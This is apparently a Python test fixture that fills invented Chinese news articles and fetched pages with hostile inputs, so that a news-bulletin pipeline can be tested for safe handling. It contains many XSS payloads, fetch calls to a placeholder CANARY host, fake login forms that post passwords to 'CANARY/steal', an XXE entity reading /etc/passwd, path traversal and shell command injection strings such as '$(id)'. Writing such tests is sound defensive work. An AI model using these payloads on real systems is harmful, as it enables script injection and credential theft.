"""Invented articles that attack whoever reads them: one attack each, in every text, every address and the page itself."""

from collections.abc import Sequence
from dataclasses import dataclass
from datetime import date
from typing import Any

import msgspec

from bulletin.drafting.items import item_of
from bulletin.issue import Item
from index.files import Files
from index.raw_pages import raw_page
from index.store import MediaFile, Store, Stored
from pipeline.encoding import as_written, encode
from pipeline.records import Attachment, Block, Duplicate, EnrichedArticle, Image, Page, PagePart, Publisher
from tests.support.articles import NOON, enriched

# In a text, CANARY is the address of a server that nobody may ask, and RUN a script that leaves traces.
RUN = "window.__pwned=1,fetch(`CANARY/ran`),alert(1)"
SAFE = "东海碳市场本周成交活跃，配额收盘价每吨八十二元。"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><rect width="9" height="9"/></svg>'


@dataclass(frozen=True)
class Attack:
    """One attack: `text` stands in every text of the article, `address` is each of its addresses, `page` its page.

    `title` is another title where `text` is too much for one; `picture` the bytes that a publisher served as its picture.
    """

    name: str
    text: str
    address: str = "CANARY/address"
    page: bytes = b""
    title: str = ""
    picture: bytes = b""


ATTACKS = (
    Attack("script", f"<script>{RUN}</script><script src=CANARY/x.js></script>"),
    Attack("handlers", f'<img src=CANARY/x.png onerror="{RUN}"><p onclick="{RUN}" onmouseover="{RUN}">看这里</p>'),
    Attack("quotes", f'"\'> \' autofocus tabindex=1 onfocus=\'{RUN}\' onmouseover="{RUN}" style="x:y" x="\''),
    Attack("javascript", f'<a href="javascript:{RUN}">全文</a>', f"javascript:{RUN}"),
    Attack(
        "javascript-hidden", f'<a href="&#106;ava&Tab;script&colon;{RUN}">全文</a>', f" \tjava\nscript:{RUN}//http://"
    ),
    Attack(
        "data", f'<a href="data:text/html,<script>{RUN}</script>">全文</a>', f"data:text/html,<script>{RUN}</script>"
    ),
    Attack("vbscript", '<a href="vbscript:msgbox(1)">全文</a>', "vbscript:msgbox(1)"),
    Attack("svg", f"<svg/onload={RUN}><script>{RUN}</script><animate onbegin={RUN} attributeName=x dur=1s></svg>"),
    Attack("svg-picture", "一张其实是脚本的图片", "CANARY/p.png", picture=SVG.encode()),
    Attack(
        "css",
        "</style><style>@import 'CANARY/a.css';*{background:url(CANARY/t.gif);width:expression(alert(1))}</style><p style='position:fixed;inset:0;background:url(CANARY/s.gif)'>",
    ),
    Attack("meta-refresh", '<meta http-equiv="refresh" content="0;url=CANARY/refresh">'),
    Attack(
        "base",
        '<base href="CANARY/"><base target="_top"><a href="next">下一篇</a><img src="base.png">',
        "//CANARY/relative",
    ),
    Attack("iframe", f'<iframe srcdoc="<script>{RUN}</script>"></iframe><iframe src="CANARY/frame"></iframe>'),
    Attack(
        "form",
        '<form action="CANARY/steal"><input name=password><button formaction="CANARY/steal">登录</button></form>',
    ),
    Attack("object", f'<object data="CANARY/x.swf"></object><embed src="CANARY/x.swf"><applet code="{RUN}"></applet>'),
    Attack(
        "broken-bytes",
        "零\x00一\x01二\x0b三\x1b[31m四\x7f五\x85六\ufffe七\uffff八",
        page=b"<p>" + SAFE.encode() + b"\xff\xfe\xc3\x28\x00\xed\xa0\x80\xf5<scr\x00ipt>window.__pwned=1</script>",
    ),
    Attack(
        "utf-7",
        "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-",
        page=b'<meta charset="utf-7"><p>+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-</p>',
    ),
    Attack("right-to-left", "\u202e反着念的题目\u2066gpj.exe \u200f\u061c正"),
    Attack("zero-width", "碳\u200b市\u200d场\ufeff\u00ad周\u2060报" + "\u0300\u0489" * 200),
    Attack(
        "megabyte-title",
        "一个很长的题目",
        title="长" * 1_000_000,
        page=("<title>" + "长" * 350_000 + f"</title><p>{SAFE}").encode(),
    ),
    Attack(
        "megabyte-word",
        "a" * 1_000_000,
        title="一个没有空格的词",
        page=(f"<p>{SAFE}</p><p>" + "a" * 1_000_000).encode(),
    ),
    Attack("template", "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>{{ ''.__class__ }}%(x)s{0}"),
    Attack(
        "typst", '#panic("x") #import "/etc/passwd": * $x^2$ _强_ *调* @引用 <标签> `#raw` // /* = 标题\n+ 项 \\u{41}'
    ),
    Attack(
        "xml", ']]><x/>&xxe;&#x3c;&amp;lt;<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><?xml version="9"?>'
    ),
    Attack(
        "comments",
        f"<!--><img src=CANARY/c.png onerror={RUN}>--><!--[if IE]><script>{RUN}</script><![endif]--><![CDATA[<b>]]>",
    ),
    Attack("emoji", "🌍🌱👩‍🔬🏴󠁧󠁢󠁥󠁮󠁧󠁿 𠮷野家 ﷽ ｆｕｌｌ e\u0301"),
    Attack("file-names", "../../../../etc/passwd\\..\\..\\CON.html?x=1#y|`id`;$(id)", "file:///etc/passwd"),
    Attack(
        "login-form",
        "登录已过期，请在 CANARY/login 重新输入用户名和密码",
        page=(
            "<div style='position:fixed;inset:0;z-index:9999;background:#fff'><form action=CANARY/steal>用户名<input name=name>密码<input name=password type=password><button>登录</button></form></div><p>"
            + SAFE
        ).encode(),
    ),
    Attack(
        "mutation",
        f'<noscript><p title="</noscript><img src=CANARY/m.png onerror={RUN}>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></table></mtext></math><svg><style><a id="</style><img src=1 onerror={RUN}>">',
    ),
)
NAMES = tuple(attack.name for attack in ATTACKS)


def filled(text: str, attack: Attack, canary: str) -> str:
    """The text with the canary's address, which says whose attack it was."""
    return text.replace("//CANARY", "//" + canary.partition("//")[2]).replace("CANARY", f"{canary}/{attack.name}")


def title_of(attack: Attack, canary: str) -> str:
    return filled(attack.title or attack.text, attack, canary)


def article_of(attack: Attack, canary: str, name: str, **changes: Any) -> EnrichedArticle:
    """The article with the attack wherever a publisher's words stand."""
    text, address = filled(attack.text, attack, canary), filled(attack.address, attack, canary)
    picture = f"http://x.example/{attack.name}.png" if attack.picture else address
    given: dict[str, Any] = {
        "title": title_of(attack, canary),
        "source": text[:2000],
        "url": address,
        "published": date(2026, 5, 13),
        "document_number": text[:200],
        "language": "zh",
        "images": (Image(url=picture, caption=text),),
        "attachments": (Attachment(url=address, name=text[:5000]),),
        "publisher": Publisher(id="hostile", name=text[:500], authority=10, listed=False),
        "blocks": (
            Block(kind="paragraph", text=SAFE),
            Block(kind="paragraph", text=text),
            Block(kind="heading", text=text[:2000]),
            Block(kind="list", items=(text[:2000], "乙")),
            Block(kind="table", rows=((text[:2000], "甲"), ("乙", "丙"))),
            Block(kind="quotation", text=text[:2000]),
            Block(kind="image", image=picture, text=text[:2000]),
        ),
    }
    return enriched(name, "国内资讯", 0.9, **{**given, **changes})


def pair_of(attack: Attack, canary: str) -> Sequence[EnrichedArticle]:
    """The article, and another printing of it, which will be its alternate."""
    made, other = (article_of(attack, canary, name) for name in (attack.name, f"{attack.name}-again"))
    same = Duplicate(
        other=other.article.id,
        score=1,
        why=as_written(filled(attack.text, attack, canary)[:500]),
        own_hash=made.article.text_hash,
        other_hash=other.article.text_hash,
    )
    return msgspec.structs.replace(made, duplicates=(same,)), other


def page_of(attack: Attack, canary: str) -> Page:
    """The page as fetched: its own bytes, or a page that has the attack as markup."""
    body = filled(attack.text, attack, canary)
    raw = attack.page.replace(b"CANARY", f"{canary}/{attack.name}".encode())
    whole = (
        f"<!doctype html><html><head><title>{body[:1000]}</title>{body}</head><body><p>{SAFE}</p>{body}</body></html>"
    )
    return Page(
        id=attack.name,
        url=f"http://x.example/{attack.name}",
        canonical=f"http://x.example/{attack.name}",
        publisher=Publisher(id="hostile", name="攻击者"),
        fetched_at=NOON,
        first_seen=NOON,
        status=200,
        headers={"content-type": "text/html"},
        via="crawl",
        parts=(PagePart.pack(f"{canary}/{attack.name}/page/", raw or whole.encode()),),
    )


def keep(store: Store, files: Files, canary: str) -> list[Item]:
    """Put all of them into the store and the files; returns them as items, each with its alternate."""
    for attack in ATTACKS:
        store.put_articles(pair_of(attack, canary))
        page = page_of(attack, canary)
        store.put_raw_pages([raw_page(page, files.put("pages", encode(page)))])
        if attack.picture:
            digest = files.put("media", attack.picture.replace(b"CANARY", f"{canary}/{attack.name}".encode()))
            url = f"http://x.example/{attack.name}.png"
            store.put_media([MediaFile(url=url, digest=digest, content_type="image/png", size=9)])
    return [item_of(_printings(store, attack)) for attack in ATTACKS]


def _printings(store: Store, attack: Attack) -> list[Stored]:
    found = store.articles([attack.name, f"{attack.name}-again"])
    return sorted(found, key=lambda one: one.id)
